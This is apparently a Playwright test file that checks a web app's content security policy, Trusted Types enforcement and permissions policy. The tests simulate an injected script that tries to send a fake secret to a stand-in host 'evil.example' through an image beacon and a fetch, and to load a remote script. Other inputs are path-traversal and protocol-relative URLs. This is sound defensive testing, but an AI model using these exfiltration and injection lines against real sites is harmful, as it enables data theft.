import type { Page } from '@playwright/test'
import { freePort } from '../../../../scripts/processes.ts'
import { expect } from '../../../../tests/support/fixtures.ts'
import type { Servers } from '../../../../tests/support/servers.ts'
import { findBrowser } from '../../../support/browser/find-browser.ts'
import { startServers } from '../../../support/description/watched-servers.ts'
import { test } from '../../../support/description/watched-test.ts'
import { hasNginx, startNginx } from '../../../support/services/nginx.ts'

const linesOf = ({ app }: Servers): string[] =>
  app
    .output()
    .split('\n')
    .flatMap((line) => (line.includes('"policy"') ? [JSON.parse(line)] : []))
    .map(({ address, detail }) => `${address}: ${detail}`)
    .sort()

/** Tries six things that the content security policy must stop an injected script from doing. */
function doWhatIsForbidden(page: Page): Promise<void> {
  return page.evaluate(() => {
    const make = (name: string, properties: object) => Object.assign(document.createElement(name), properties)
    const attempts = [
      () => document.body.append(make('img', { src: 'https://evil.example/pixel.png?code=s3cret' })),
      () => void Object.assign(document.body, { innerHTML: '<b>s3cret</b>' }),
      () => document.body.append(make('script', { src: 'https://evil.example/x.js' })),
      () => document.body.append(make('style', { textContent: 'body{top:0}' })),
      () => document.body.append(make('iframe', { src: 'https://evil.example/' })),
      () => void fetch('https://evil.example/?code=s3cret').catch(() => null),
    ]
    for (const attempt of attempts)
      try {
        attempt()
      } catch {
        // Actions that are blocked by Trusted Types throw an error. The violation reports show which actions were blocked.
      }
  })
}

const blocked = [
  '/login: connect-src blocked https://evil.example',
  '/login: frame-src blocked https://evil.example',
  '/login: img-src blocked https://evil.example',
  '/login: require-trusted-types-for blocked trusted-types-sink',
  '/login: require-trusted-types-for blocked trusted-types-sink',
  '/login: style-src-elem blocked inline',
]
const path = '/login?reason=access_denied&returnTo=%2Fs3cret'

test.describe('a page that violates its content security policy', () => {
  test.use({ expectedProblems: [/violation|policy|Trusted|requires|violates/i] })

  test('six forbidden actions by an injected script are blocked, and each violation is logged without the URL’s query', async ({
    page,
    problems,
  }) => {
    const servers = await startServers()
    await page.goto(servers.app.origin + path)
    expect(problems).toEqual([])
    await doWhatIsForbidden(page)
    await expect.poll(() => linesOf(servers)).toEqual(blocked)
    expect(servers.app.output()).not.toContain('s3cret')
    // The browser also reports the violations directly to the test.
    await expect.poll(() => problems.filter((problem) => problem.startsWith('violation: ')).length).toBe(6)
    await expect(page.getByRole('main')).toBeVisible()
    await leave(page)
    await servers.stop()
  })

  test('a page loads scripts only from the build folder, however a script’s URL is spelled', async ({ page }) => {
    const servers = await startServers()
    await page.goto(servers.app.origin + path)
    const taken = (address: string) =>
      page.evaluate((src) => {
        try {
          return Object.assign(document.createElement('script'), { src }).src
        } catch {
          return null
        }
      }, address)
    expect(await taken('/_next/static/x.js?dpl=1')).toBe(`${servers.app.origin}/_next/static/x.js?dpl=1`)
    for (const outside of ['..', '%2e%2e', '.%2E', '.\t.', '.\n.', '\n..'])
      expect(await taken(`/_next/static/${outside}/${outside}/api/me`), JSON.stringify(outside)).toBe(null)
    for (const address of [
      '/api/me',
      '_next/static/x.js/../../../api/me',
      '//evil.example/_next/static/x.js',
      'data:,x',
    ])
      expect(await taken(address), address).toBe(null)
    await leave(page)
    await servers.stop()
  })

  test('over HTTPS, the browser reports content security policy violations through the Reporting API', async ({
    playwright,
    launchOptions,
  }) => {
    test.skip(!hasNginx, 'Needs nginx and openssl, which are installed automatically on Debian only')
    const port = await freePort()
    const servers = await startServers({ APP_URL: `https://127.0.0.1:${port}` })
    const nginx = await startNginx({ port, upstreams: [servers.app.origin] })
    // The Reporting API's reports come from the browser, not from the page, so the browser itself must trust the certificate.
    // `--short-reporting-delay` makes the browser send the reports sooner.
    const args = [...(launchOptions.args ?? []), '--ignore-certificate-errors', '--short-reporting-delay']
    // Uses the full Chromium browser, because the headless shell does not send Reporting API reports.
    const browser = await playwright.chromium.launch({ ...launchOptions, executablePath: findBrowser(), args })
    const page = await browser.newPage()
    await page.goto(nginx.origin + path)
    await doWhatIsForbidden(page)
    await expect.poll(() => linesOf(servers)).toEqual(blocked)
    expect(servers.app.output()).not.toContain('s3cret')
    await browser.close()
    await nginx.stop()
    await servers.stop()
  })
})

test.describe('a browser extension’s Trusted Types policy', () => {
  const policies = {
    'allows everything': ['createHTML', 'createScript', 'createScriptURL'],
    'allows only markup, as in most extensions': ['createHTML'],
    'allows nothing': [],
  }
  for (const [title, allowed] of Object.entries(policies)) {
    test(`pages work as usual if a browser extension’s default Trusted Types policy ${title}`, async ({
      page,
      signIn,
    }) => {
      await page.addInitScript((names) => {
        const rules = Object.fromEntries(names.map((name) => [name, (text: string) => text]))
        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(...values: unknown[]): void } }
        trustedTypes.createPolicy('default', rules)
      }, allowed)
      await signIn('mira')
      await page.getByRole('searchbox').fill('ferry')
      await expect(page.getByText(/^\d+ of 120 playlists$/)).toBeVisible()
      await page.getByRole('link', { name: 'Night ferry, all of it', exact: true }).click()
      await expect(page.getByRole('heading', { level: 1, name: 'Night ferry, all of it' })).toBeVisible()
      await page.getByRole('link', { name: 'Profile' }).click()
      await expect(page.getByRole('main')).toContainText('Mira Solvang')
    })
  }
})

test('no page can use the camera, geolocation or any other powerful browser feature', async ({ page }) => {
  const answer = await page.goto('/')
  const named = `${answer?.headers()['permissions-policy']}`.split('=(), ')
  const allowed: string[] = await page.evaluate(() =>
    (document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures(),
  )
  expect(named.length).toBeGreaterThan(30)
  expect(allowed.filter((feature) => named.includes(feature))).toEqual([])
  const powers = /^(?:camera|microphone|geolocation|usb|hid|serial|midi|payment|display-capture|.*-get|clipboard-.*)$/
  expect(allowed.filter((feature) => powers.test(feature) && !feature.startsWith('digital-'))).toEqual([])
})

/** Leaves the page before the test's servers stop, because the page may still be loading pictures. */
const leave = (page: Page) => page.goto('about:blank')
